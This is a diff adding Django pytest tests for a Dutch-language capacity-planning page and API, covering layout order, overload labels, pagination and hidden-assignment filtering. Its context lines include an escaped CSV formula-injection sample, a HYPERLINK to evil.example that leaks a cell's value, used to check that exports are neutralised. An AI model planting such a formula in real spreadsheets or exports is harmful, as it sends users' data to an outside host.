@@ -297,3 +297,126 @@ def test_the_csv_export_carries_no_formula(client, world) -> None:
     cells = {cell for row in rows for cell in row}
     assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
     assert {"'@SUM(1)", '\'=HYPERLINK("https://evil.example/?"&A1;"klik")'} <= cells
+
+
+# --------------------------------------------------------------------------- the one-screen layout
+
+
+def _section(html: str, heading_id: str) -> str:
+    """The HTML of the section a heading id opens, up to its end."""
+    start = html.index(f'id="{heading_id}"')
+    return html[start : html.index("</section>", start)]
+
+
+def _details(html: str, summary: str) -> list[str]:
+    """The bodies of every <details> whose summary is `summary`."""
+    bodies, at = [], 0
+    while (start := html.find("<details", at)) != -1:
+        end = html.index("</details>", start)
+        body = html[start:end]
+        if f"<summary>{summary}</summary>" in body:
+            bodies.append(body)
+        at = end
+    return bodies
+
+
+def test_summary_then_heat_map_then_grouped_shortages_with_the_confirmation(client, world) -> None:
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    t.login(client, world["lcc"])
+    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
+    order = [html.index(f'id="{h}"') for h in ("samenvatting-kop", "heat-kop", "tekort-kop")]
+    assert order == sorted(order)
+    # The plan form and the long assignment list come after the shortages.
+    assert html.index('id="tekort-kop"') < html.index('id="plannen-kop"')
+    assert html.index('id="tekort-kop"') < html.index('id="beveiligingen-kop"')
+    # Shortages per assignment with the days as a range, not a row per day and shift.
+    shortages = _section(html, "tekort-kop")
+    assert shortages.count(f'<th scope="row">{world["a_other"].reference}') == 1
+    assert "agent tekort" in shortages or "agenten tekort" in shortages
+    # The confirmation sits in the shortages' section, right after them.
+    assert 'id="form-confirm"' in shortages and "Prioritering bevestigen" in shortages
+    summary = _section(html, "samenvatting-kop")
+    assert "bemand" in summary and "opdracht met tekort" in summary
+    assert "Prioritering nog niet bevestigd" in summary
+
+
+def test_units_over_100_percent_are_marked_in_words(client, world) -> None:
+    # Both officers work the mixed assignment each day: 8 hours a day on 36 a week.
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    t.login(client, world["lcc"])
+    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
+    summary = _section(html, "samenvatting-kop")
+    assert f"{world['pu'].name} " in summary and "% — overbelast" in summary
+    heat = _section(html, "heat-kop")
+    assert "<table" in heat and 'class="level-over"' in heat
+    assert "— overbelast" in heat
+    assert '<span class="visually-hidden">overbelast</span>' in heat
+
+
+def test_solver_internals_and_the_time_limit_are_behind_the_details(client, world) -> None:
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    t.login(client, world["lcc"])
+    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
+    details = _details(html, "Details voor planners/specialisten")
+    assert len(details) == 2
+    solver, plan_form = details
+    for word in ("Doelfunctie / beste grens / gat", "Rekentijd", "Status van de planner"):
+        assert word in solver
+        assert html.count(word) == 1, word
+    assert 'name="time_limit"' in plan_form and html.count('name="time_limit"') == 1
+    # A wrong time limit opens the details, so the error is not hidden.
+    bad = client.post(
+        reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 2, "time_limit": 0}
+    )
+    assert bad.status_code == 400
+    (form_details,) = [
+        d
+        for d in _details(bad.content.decode(), "Details voor planners/specialisten")
+        if "time_limit" in d
+    ]
+    assert form_details.startswith('<details class="cap-details" open')
+
+
+def test_shortages_and_assignments_are_paginated_and_filtered(client, world, monkeypatch) -> None:
+    from weerstand.capacity import views
+
+    monkeypatch.setattr(views, "SHORTAGE_PAGE_SIZE", 1)
+    monkeypatch.setattr(views, "ASSIGNMENT_PAGE_SIZE", 1)
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    t.login(client, world["lcc"])
+    url = reverse("capacity:run", args=[run.pk])
+    html = client.get(url).content.decode()
+    listing = _section(html, "beveiligingen-kop")
+    # The short assignment first; two visible assignments, one a page.
+    assert world["a_other"].reference in listing and world["a_seen"].reference not in listing
+    assert 'aria-label="Paginering opdrachten"' in listing
+    assert 'aria-current="page"' in listing
+    page2 = _section(client.get(url, {"pagina": 2}).content.decode(), "beveiligingen-kop")
+    assert world["a_seen"].reference in page2 and world["a_other"].reference not in page2
+    only_short = _section(client.get(url, {"toon": "tekort"}).content.decode(), "beveiligingen-kop")
+    assert world["a_other"].reference in only_short
+    assert world["a_seen"].reference not in only_short
+    assert "Paginering opdrachten" not in only_short
+    by_ref = client.get(url, {"kenmerk": world["a_seen"].reference}).content.decode()
+    assert world["a_seen"].reference in _section(by_ref, "beveiligingen-kop")
+    # One visible short assignment: one page of shortages, no page links.
+    assert "Paginering tekorten" not in _section(html, "tekort-kop")
+
+
+def test_the_api_lists_the_same_grouped_ranges_without_hidden_ones(world) -> None:
+    """The page's grouping, read-only under /shortage-ranges; the per-shift list stays."""
+    run = services.plan(world["lcc"], TODAY, 2, 5)
+    api = t.api_client(world["lcc"])
+    body = api.get(f"/api/v1/plan-runs/{run.pk}/shortage-ranges").json()
+    assert body["count"] == 1
+    (group,) = body["results"]
+    assert group["assignmentReference"] == world["a_other"].reference
+    assert group["case"] == ""  # the LCC is not in that case's team
+    assert group["ranges"] and {"start", "end", "days", "shift", "missing", "text"} <= set(
+        group["ranges"][0]
+    )
+    assert group["shifts"] == sum(r["days"] for r in group["ranges"])
+    assert MARKER not in str(body) and world["hidden"].reference not in str(body)
+    assert api.get(f"/api/v1/plan-runs/{run.pk}/shortage-ranges?x=1").status_code == 400
+    flat = api.get(f"/api/v1/plan-runs/{run.pk}/shortages").json()
+    assert flat["count"] == group["shifts"]
